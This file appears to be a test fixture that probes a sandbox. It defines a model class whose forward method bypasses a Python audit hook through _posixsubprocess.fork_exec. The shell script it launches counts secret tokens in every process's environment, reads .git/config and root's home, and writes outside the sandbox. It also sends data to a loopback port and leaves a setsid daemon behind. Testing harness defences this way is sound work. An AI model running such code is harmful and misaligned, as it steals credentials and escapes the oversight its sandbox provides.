"""Attack past the audit hook: _posixsubprocess.fork_exec runs a shell and a fresh Python (no hook in it),
which read every environment in /proc, the repository's .git/config and the runner's home, write outside
the sandbox, connect to the runner's loopback, and leave a setsid daemon behind. What it saw comes back in
the exception's text, which the test reads."""

import os
import sys

import _posixsubprocess
from torch import nn

PORT = 0  # the test fills these in
REPO = ""
OUTSIDE = ""
MARKER = ""

SCRIPT = f"""
echo leaked:$(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -E 'ghs_|github_pat_|AKIA|postgresql:')
echo git:$(cat {REPO}/.git/config 2>/dev/null | grep -c url)
echo home:$(ls -A $(getent passwd 0 | cut -d: -f6) 2>/dev/null | tr '\\n' ',')
echo pwned > {OUTSIDE} 2>/dev/null && echo write-done || echo write-refused
{sys.executable} -c "import socket; s=socket.create_connection(('127.0.0.1', {PORT}), timeout=2); s.sendall(b'stolen'); print('sent')" 2>/dev/null || echo connect-refused
setsid sh -c 'exec sleep 600 {MARKER}' >/dev/null 2>&1 < /dev/null &
echo done
"""

def _run(argv):
    r, w = os.pipe()
    errr, errw = os.pipe()
    args = [argv, [os.fsencode(argv[0])], True, (w,), None, None, -1, -1, -1, w, -1, w, errr, errw,
            True, False, -1, None, None, None, -1, None]
    try:
        pid = _posixsubprocess.fork_exec(*args)
    except TypeError:  # Python 3.12 takes allow_vfork too
        pid = _posixsubprocess.fork_exec(*args, False)
    os.close(w)
    os.close(errw)
    out = b""
    while chunk := os.read(r, 65536):
        out += chunk
    os.waitpid(pid, 0)
    return out.decode(errors="replace")


class ModelNew(nn.Module):
    def forward(self, a, b):
        raise ValueError(_run(["/bin/sh", "-c", SCRIPT]).replace("\n", " | "))
